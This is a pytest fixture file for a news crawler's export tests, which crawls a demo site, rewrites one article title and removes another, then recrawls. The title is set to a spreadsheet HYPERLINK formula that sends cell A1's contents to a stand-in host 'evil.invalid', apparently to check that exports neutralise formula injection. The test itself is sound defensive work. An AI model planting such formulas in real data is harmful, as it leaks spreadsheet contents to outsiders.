"""One crawled history for all tests of exports: a demo site that was crawled, edited and crawled again."""

from __future__ import annotations

import shutil
from contextlib import contextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from newscrawl.exports.export import ExportOptions, export
from newscrawl.storage.database import utc_now
from newscrawl.storage.dialects import database_url
from newscrawl.storage.queries.snapshot import ExportSelection
from newscrawl.storage.store import Store
from tests.crawls import FULL_SPEED, Dataset, Finished, scrapy
from tests.demo_client import demo_process
from tests.exports.exported_data import COMMAND

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

FORMULA = '=HYPERLINK("https://evil.invalid/?x="&A1,"Click, here")'
CONTACT = "https://example.org/crawl|er"
IMPATIENT = {
    "NEWSCRAWL_REVISIT_AFTER": "0s",
    "NEWSCRAWL_GONE_AFTER": "0s",
    "NEWSCRAWL_RETRY_FAILED_AFTER": "0s",
}


@dataclass
class History:
    """A data folder, when its first crawl ended, and what happened then to two of its articles."""

    folder: Path
    first_crawl: str
    edited: str
    removed: str


@pytest.fixture(scope="session")
def history(_processes: None, once) -> History:
    folder = once(crawl_twice)
    return History(folder, *(folder / "told").read_text().splitlines())


def crawl_twice(folder: Path) -> None:
    """Crawl a site, change the title of an article into a formula and remove another, crawl again."""
    data = Dataset(folder)
    with demo_process(articles=45, layout="next", locales="en,pt-PT") as demo:
        command = [*COMMAND[:3], "crawl", "bitget_news", "-a", f"site={demo.url.rstrip('/')}"]
        command += ["-a", "locales=en,pt-PT"]
        for name, value in (FULL_SPEED | IMPATIENT).items():
            command += ["-s", f"{name}={value}"]
        assert scrapy(command, data).exit_code == 0
        first_crawl = data.scalar("SELECT max(changed_at) FROM changes")
        while utc_now() <= first_crawl:
            pass  # times are whole seconds, and what comes now is later
        edited, removed = (article["article_id"] for article in demo.published()[:2])
        demo.edit(edited, locale="en", title=FORMULA)
        demo.remove(removed)
        for _ in range(2):
            scrapy([*command, "-s", f"NEWSCRAWL_CONTACT={CONTACT}"], data)
    assert data.scalar("SELECT count(*) FROM articles WHERE status = 'gone'") == 2
    (folder / "told").write_text(f"{first_crawl}\n{edited}\n{removed}")


@pytest.fixture
def data(history: History, tmp_path: Path) -> Dataset:
    """Return a copy of the history that a test may change."""
    shutil.copytree(history.folder, tmp_path / "data")
    return Dataset(tmp_path / "data")


@pytest.fixture
def run(data: Dataset) -> Callable[..., Finished]:
    """Run `newscrawl export` as a user does."""
    return lambda *options: scrapy([*COMMAND, *map(str, options)], data)


@pytest.fixture
def exported(data: Dataset, tmp_path: Path) -> Callable[..., Path]:
    """Export in this process, with options of `ExportOptions` and `ExportSelection`."""

    def run(name: str = "export", /, **options: Any) -> Path:
        asked = {key: options.pop(key) for key in list(options) if key in ExportSelection._fields}
        with read(data) as store:
            export(
                store, ExportOptions(tmp_path / name, ExportSelection(**asked), **options), lambda *_: None
            )
        return tmp_path / name

    return run


@contextmanager
def read(data: Dataset) -> Iterator[Store]:
    with Store.open(database_url(data.folder), read_only=True) as store:
        yield store
